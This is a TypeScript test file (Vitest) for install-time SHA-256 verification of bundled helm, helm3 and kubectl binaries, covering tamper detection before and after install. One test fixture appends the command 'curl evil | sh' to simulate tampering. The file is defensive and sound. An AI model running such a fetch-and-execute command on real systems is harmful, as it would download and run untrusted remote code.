import { execFileSync } from "node:child_process";
import { appendFileSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { repoRoot } from "../src/paths.js";
import { isVerified, sha256, writeVerifiedBinary } from "./verify-binary.mjs";

const dirs: string[] = [];
function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), "verify-binary-"));
  dirs.push(dir);
  return dir;
}
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

const GOOD = Buffer.from("#!/bin/sh\necho helm\n");
const check = (data: Uint8Array, target: string) => ({ target, data, name: "helm3", source: "helm/helm in layer.zip", expected: sha256(GOOD), checksumsFile: "tools/install/binary-checksums.json" });

describe("binary checksum verification at install", () => {
  it("writes a binary whose sha256 matches, executable (control)", () => {
    const target = join(tempDir(), "helm3");
    writeVerifiedBinary(check(GOOD, target));
    expect(readFileSync(target)).toEqual(GOOD);
    expect(statSync(target).mode & 0o111).not.toBe(0);
    expect(isVerified(target, sha256(GOOD))).toBe(true);
  });

  it("refuses tampered bytes with a clear error and writes nothing, not even a temp file", () => {
    const dir = tempDir();
    const tampered = Buffer.concat([GOOD, Buffer.from("curl evil | sh\n")]);
    expect(() => writeVerifiedBinary(check(tampered, join(dir, "helm3")))).toThrow(
      new RegExp(`helm3 from helm/helm in layer.zip has sha256 ${sha256(tampered)}, but tools/install/binary-checksums.json records ${sha256(GOOD)}.*nothing was written`),
    );
    expect(readdirSync(dir)).toEqual([]);
  });

  it("notices an extracted binary tampered with after install", () => {
    const target = join(tempDir(), "helm3");
    writeVerifiedBinary(check(GOOD, target));
    appendFileSync(target, "\n# changed\n");
    expect(isVerified(target, sha256(GOOD))).toBe(false);
  });
});

describe("binary-checksums.json matches the binaries npm ci extracted", () => {
  const recorded = JSON.parse(readFileSync(join(repoRoot, "tools", "install", "binary-checksums.json"), "utf8")) as Record<string, { sha256: string; version: string } | string>;
  const entries = Object.entries(recorded).filter((e): e is [string, { sha256: string; version: string }] => typeof e[1] === "object");

  it("records helm, helm3 and kubectl", () => {
    expect(entries.map(([name]) => name).sort()).toEqual(["helm", "helm3", "kubectl"]);
  });

  it.each(entries)("%s has the recorded sha256 and prints the recorded version", (name, entry) => {
    const binary = join(repoRoot, "node_modules", ".platform-bin", name);
    expect(isVerified(binary, entry.sha256)).toBe(true);
    const output = execFileSync(binary, name === "kubectl" ? ["version", "--client"] : ["version"], { encoding: "utf8" });
    expect(output).toContain(entry.version.split(" ")[0]);
  });
});
